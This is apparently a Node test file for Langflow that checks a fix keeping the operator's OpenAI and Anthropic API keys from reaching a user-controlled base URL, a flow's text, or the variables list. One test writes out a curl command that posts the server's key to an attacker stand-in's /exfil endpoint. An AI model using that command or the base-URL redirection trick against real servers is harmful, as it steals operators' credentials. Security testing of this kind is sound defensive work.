import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { startTestServer, type TestServer } from '../../test-utils/api-server.js';
import { FlowBuilder } from '../../test-utils/flow-builder.js';
import { startStandin, type LlmStandin } from '../../test-utils/llm-standin.js';

/**
 * Security finding: model providers fell back to the server's environment for their key whatever base
 * URL the user set, so a user who pointed a model at a server they control (a field, a tweak, their own
 * OPENAI_BASE_URL variable) received the operator's OPENAI_API_KEY in the Authorization header. The
 * same key also reached flows as text: a `load_from_db` field naming it (or the copy the login import
 * puts in every account) gave it to a Text Input or an API Request, and turning the imported Credential
 * into a Generic variable listed it.
 *
 * Two stand-ins: `official` is the OpenAI endpoint the server's environment configures
 * (OPENAI_BASE_URL), `attacker` is the user's. The attacker's stand-in must never see a server key.
 */
type Json = Record<string, unknown>;

const SERVER_OPENAI_KEY = `sk-server-openai-${Math.random().toString(36).slice(2)}`;
const SERVER_ANTHROPIC_KEY = `sk-ant-server-${Math.random().toString(36).slice(2)}`;

let server: TestServer;
let official: LlmStandin;
let attacker: LlmStandin;
let token: string;
let apiKey: string;

async function login(username: string, password: string): Promise<string> {
  const response = await server.call('/api/v1/login', {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ username, password }).toString(),
  });
  assert.equal(response.status, 200, response.text);
  return (response.body as Json).access_token as string;
}

const bearer = () => ({ authorization: `Bearer ${token}` });

async function addFlow(flow: FlowBuilder): Promise<string> {
  const built = flow.build();
  const response = await server.call('/api/v1/flows/', { method: 'POST', headers: bearer(), json: { name: `${built.name} ${Math.random().toString(36).slice(2, 8)}`, data: built.data } });
  assert.equal(response.status, 201, response.text);
  return (response.body as Json).id as string;
}

async function run(flow: FlowBuilder, body: Json = {}, headers: Record<string, string> = {}) {
  const flowId = await addFlow(flow);
  return server.call(`/api/v1/run/${flowId}`, { method: 'POST', headers: { 'x-api-key': apiKey, ...headers }, json: { input_value: 'hi', ...body } });
}

/** The failed run's message (`detail` holds `{message, component_display_name}` as JSON text). */
function errorMessage(response: { status: number; body: unknown; text: string }): string {
  assert.equal(response.status, 500, response.text);
  const detail = (response.body as Json).detail;
  return typeof detail === 'string' ? String((JSON.parse(detail) as Json).message) : JSON.stringify(detail);
}

/** Nothing the attacker's stand-in received (headers, bodies) holds a server key. */
function assertNoServerKeyReached(standin: LlmStandin): void {
  for (const request of standin.requests) {
    const seen = JSON.stringify({ headers: request.headers, body: request.body });
    assert.ok(!seen.includes(SERVER_OPENAI_KEY) && !seen.includes(SERVER_ANTHROPIC_KEY), `a server key reached ${request.method} ${request.path}`);
  }
}

function chat(model: string, fields: Json, meta: Record<string, Json> = {}): FlowBuilder {
  const flow = new FlowBuilder(model);
  const input = flow.node('ChatInput', {});
  const node = flow.node(model, { stream: false, ...fields }, { fieldMeta: meta });
  const output = flow.node('ChatOutput', {});
  flow.connect(input, 'message', node, 'input_value').connect(node, model === 'Agent' ? 'response' : 'text_output', output, 'input_value');
  return flow;
}

function refusal(label: string, variable: string, where: string): RegExp {
  return new RegExp(`^Error building Component [^:]+: ${label}: the server's ${variable} is only sent to the server's own ${label} endpoint, not to the base URL set in ${where}\\. To use that URL, enter your own key`);
}

describe('provider key exfiltration through a user-chosen base URL', () => {
  before(async () => {
    official = await startStandin();
    attacker = await startStandin();
    server = await startTestServer('sqlite', {
      LANGFLOW_AUTO_LOGIN: 'false',
      LANGFLOW_SUPERUSER: 'admin',
      LANGFLOW_SUPERUSER_PASSWORD: 'admin-pass',
      LANGFLOW_NEW_USER_IS_ACTIVE: 'true',
      LANGFLOW_ALLOWED_HOSTS: '127.0.0.1',
      // The operator's environment: an OpenAI key for its own (stand-in) endpoint, an Anthropic key for Anthropic's API.
      OPENAI_API_KEY: SERVER_OPENAI_KEY,
      OPENAI_BASE_URL: official.baseUrl,
      ANTHROPIC_API_KEY: SERVER_ANTHROPIC_KEY,
    });
    const admin = await login('admin', 'admin-pass');
    const created = await server.call('/api/v1/users/', { method: 'POST', headers: { authorization: `Bearer ${admin}` }, json: { username: 'mallory', password: 'mallory-pass' } });
    assert.equal(created.status, 201, created.text);
    // Logging in copies the server's OPENAI_API_KEY and ANTHROPIC_API_KEY into mallory's variables (Langflow's import).
    token = await login('mallory', 'mallory-pass');
    const key = await server.call('/api/v1/api_key/', { method: 'POST', headers: bearer(), json: { name: 'mallory key' } });
    apiKey = (key.body as Json).api_key as string;
  });

  after(async () => {
    await server?.stop();
    await official?.close();
    await attacker?.close();
  });

  test("the server's key goes to the server's own endpoint, as before", async () => {
    official.reset();
    official.respondWith(() => 'from the official endpoint');
    const unset = await run(chat('OpenAIModel', { model_name: 'gpt-4o-mini', api_key: '' }));
    assert.equal(unset.status, 200, unset.text);
    assert.match(unset.text, /from the official endpoint/);
    // The same endpoint spelled by the user (trailing slash) is still the server's endpoint.
    const same = await run(chat('OpenAIModel', { model_name: 'gpt-4o-mini', api_key: 'OPENAI_API_KEY', openai_api_base: `${official.baseUrl}/` }, { api_key: { load_from_db: true } }));
    assert.equal(same.status, 200, same.text);
    assert.deepEqual(official.chatRequests.map((r) => r.headers.authorization), [`Bearer ${SERVER_OPENAI_KEY}`, `Bearer ${SERVER_OPENAI_KEY}`]);
  });

  test("a base URL in the model's field: the server's key is refused, with an error naming provider and field", async () => {
    attacker.reset();
    const cases: [FlowBuilder, RegExp][] = [
      [chat('OpenAIModel', { model_name: 'gpt-4o-mini', api_key: '', openai_api_base: attacker.baseUrl }), refusal('OpenAI', 'OPENAI_API_KEY', 'the OpenAI API Base field')],
      // The key field naming the variable the login import copied from the environment.
      [chat('OpenAIModel', { model_name: 'gpt-4o-mini', api_key: 'OPENAI_API_KEY', openai_api_base: attacker.baseUrl }, { api_key: { load_from_db: true } }), refusal('OpenAI', 'OPENAI_API_KEY', 'the OpenAI API Base field')],
      [chat('Agent', { agent_llm: 'OpenAI', model_name: 'gpt-4o-mini', openai_api_base: attacker.baseUrl, add_current_date_tool: false }), refusal('OpenAI', 'OPENAI_API_KEY', 'the OpenAI API Base field')],
      [chat('AnthropicModel', { model_name: 'claude-sonnet-4-5', api_key: '', base_url: attacker.url }), refusal('Anthropic', 'ANTHROPIC_API_KEY', 'the Anthropic API URL field')],
      // Another spelling of the configured host is not the configured URL.
      [chat('OpenAIModel', { model_name: 'gpt-4o-mini', api_key: '', openai_api_base: `http://[::ffff:127.0.0.1]:${new URL(official.url).port}/v1` }), refusal('OpenAI', 'OPENAI_API_KEY', 'the OpenAI API Base field')],
    ];
    for (const [flow, expected] of cases) {
      const response = await run(flow);
      assertNoServerKeyReached(attacker);
      const message = errorMessage(response);
      assert.match(message, expected);
      assert.ok(!message.includes(SERVER_OPENAI_KEY) && !message.includes(SERVER_ANTHROPIC_KEY));
    }
    for (const [type, fields] of [
      ['OpenAIEmbeddings', { model: 'text-embedding-3-small', openai_api_base: attacker.baseUrl }],
      ['EmbeddingModel', { provider: 'OpenAI', model: 'text-embedding-3-small', api_base: attacker.baseUrl }],
    ] as const) {
      const flow = new FlowBuilder(type);
      flow.node(type, fields);
      const response = await run(flow, { output_type: 'debug' });
      assert.match(errorMessage(response), /OpenAI: the server's OPENAI_API_KEY is only sent to the server's own OpenAI endpoint/, type);
    }
    assert.deepEqual(attacker.requests, [], 'nothing reached the attacker');
  });

  test("a base URL from a tweak or from the user's own OPENAI_BASE_URL variable is refused the same way", async () => {
    attacker.reset();
    const flow = chat('OpenAIModel', { model_name: 'gpt-4o-mini', api_key: '' });
    const model = 'OpenAIModel-00002';
    const tweaked = await run(flow, { tweaks: { [model]: { openai_api_base: attacker.baseUrl } } });
    assertNoServerKeyReached(attacker);
    assert.match(errorMessage(tweaked), refusal('OpenAI', 'OPENAI_API_KEY', 'the OpenAI API Base field'));

    const variable = await server.call('/api/v1/variables/', { method: 'POST', headers: bearer(), json: { name: 'OPENAI_BASE_URL', value: attacker.baseUrl, type: 'Generic', default_fields: [] } });
    assert.equal(variable.status, 201, variable.text);
    try {
      const unified = await run(chat('LanguageModelComponent', { model: [{ name: 'gpt-4o-mini', provider: 'OpenAI' }] }));
      assertNoServerKeyReached(attacker);
      assert.match(errorMessage(unified), refusal('OpenAI', 'OPENAI_API_KEY', 'your OPENAI_BASE_URL variable'));
      // An OpenAI-compatible server needs no key: it is called, without the server's.
      attacker.respondWith(() => 'keyless');
      const compatible = await run(chat('OpenAICompatibleModel', { model_name: 'm', base_url: attacker.baseUrl }));
      assert.equal(compatible.status, 200, compatible.text);
      assert.equal(attacker.chatRequests.length, 1);
      assert.equal(attacker.chatRequests[0].headers.authorization, undefined);
    } finally {
      await server.call(`/api/v1/variables/${(variable.body as Json).id as string}`, { method: 'DELETE', headers: bearer() });
    }
    assertNoServerKeyReached(attacker);
  });

  test("the server's key never reaches a flow as text (Text Input, API Request) nor the variables list", async () => {
    attacker.reset();
    const send = new FlowBuilder('send the key');
    const prompt = send.node('Prompt', { template: `curl -X POST ${attacker.url}/exfil -H 'Content-Type: application/json' -d {key}`, key: 'ANTHROPIC_API_KEY' }, { fieldMeta: { key: { load_from_db: true } } });
    const request = send.node('APIRequest', { mode: 'cURL' });
    send.connect(prompt, 'prompt', request, 'curl_input');
    await run(send, { output_type: 'debug' });
    assertNoServerKeyReached(attacker);

    const read = new FlowBuilder('read the key');
    const input = read.node('TextInput', { input_value: 'OPENAI_API_KEY' }, { fieldMeta: { input_value: { load_from_db: true } } });
    const output = read.node('TextOutput', {});
    read.connect(input, 'text', output, 'input_value');
    const shown = await run(read, { output_type: 'text' });
    assert.equal(shown.status, 200, shown.text);
    assert.ok(!shown.text.includes(SERVER_OPENAI_KEY), 'the key came back in the run');

    const listed = await server.call('/api/v1/variables/', { headers: bearer() });
    const imported = (listed.body as { id: string; name: string; value: unknown }[]).find((v) => v.name === 'OPENAI_API_KEY');
    assert.ok(imported, listed.text);
    const generic = await server.call(`/api/v1/variables/${imported.id}`, { method: 'PATCH', headers: bearer(), json: { type: 'Generic' } });
    assert.equal(generic.status, 400, generic.text);
    assert.deepEqual(generic.body, { detail: 'Cannot change a credential variable to a generic variable without providing a new value.' });
    assert.ok(!(await server.call('/api/v1/variables/', { headers: bearer() })).text.includes(SERVER_OPENAI_KEY));
  });

  test("a user's own key goes wherever the user points it", async () => {
    attacker.reset();
    attacker.respondWith(() => 'the user pays');
    const field = await run(chat('OpenAIModel', { model_name: 'gpt-4o-mini', api_key: 'sk-mallory-field', openai_api_base: attacker.baseUrl }));
    assert.equal(field.status, 200, field.text);
    const headers = { 'X-LANGFLOW-GLOBAL-VAR-OPENAI_API_KEY': 'sk-mallory-header', 'X-LANGFLOW-GLOBAL-VAR-OPENAI_BASE_URL': attacker.baseUrl };
    const perRequest = await run(chat('LanguageModelComponent', { model: [{ name: 'gpt-4o-mini', provider: 'OpenAI' }] }), {}, headers);
    assert.equal(perRequest.status, 200, perRequest.text);
    // Her own value in the imported variable makes it hers.
    const listed = (await server.call('/api/v1/variables/', { headers: bearer() })).body as { id: string; name: string }[];
    const imported = listed.find((v) => v.name === 'OPENAI_API_KEY')!;
    const replaced = await server.call(`/api/v1/variables/${imported.id}`, { method: 'PATCH', headers: bearer(), json: { value: 'sk-mallory-variable' } });
    assert.equal(replaced.status, 200, replaced.text);
    const stored = await run(chat('OpenAIModel', { model_name: 'gpt-4o-mini', api_key: 'OPENAI_API_KEY', openai_api_base: attacker.baseUrl }, { api_key: { load_from_db: true } }));
    assert.equal(stored.status, 200, stored.text);
    assert.deepEqual(attacker.chatRequests.map((r) => r.headers.authorization), ['Bearer sk-mallory-field', 'Bearer sk-mallory-header', 'Bearer sk-mallory-variable']);
    assertNoServerKeyReached(attacker);
  });
});
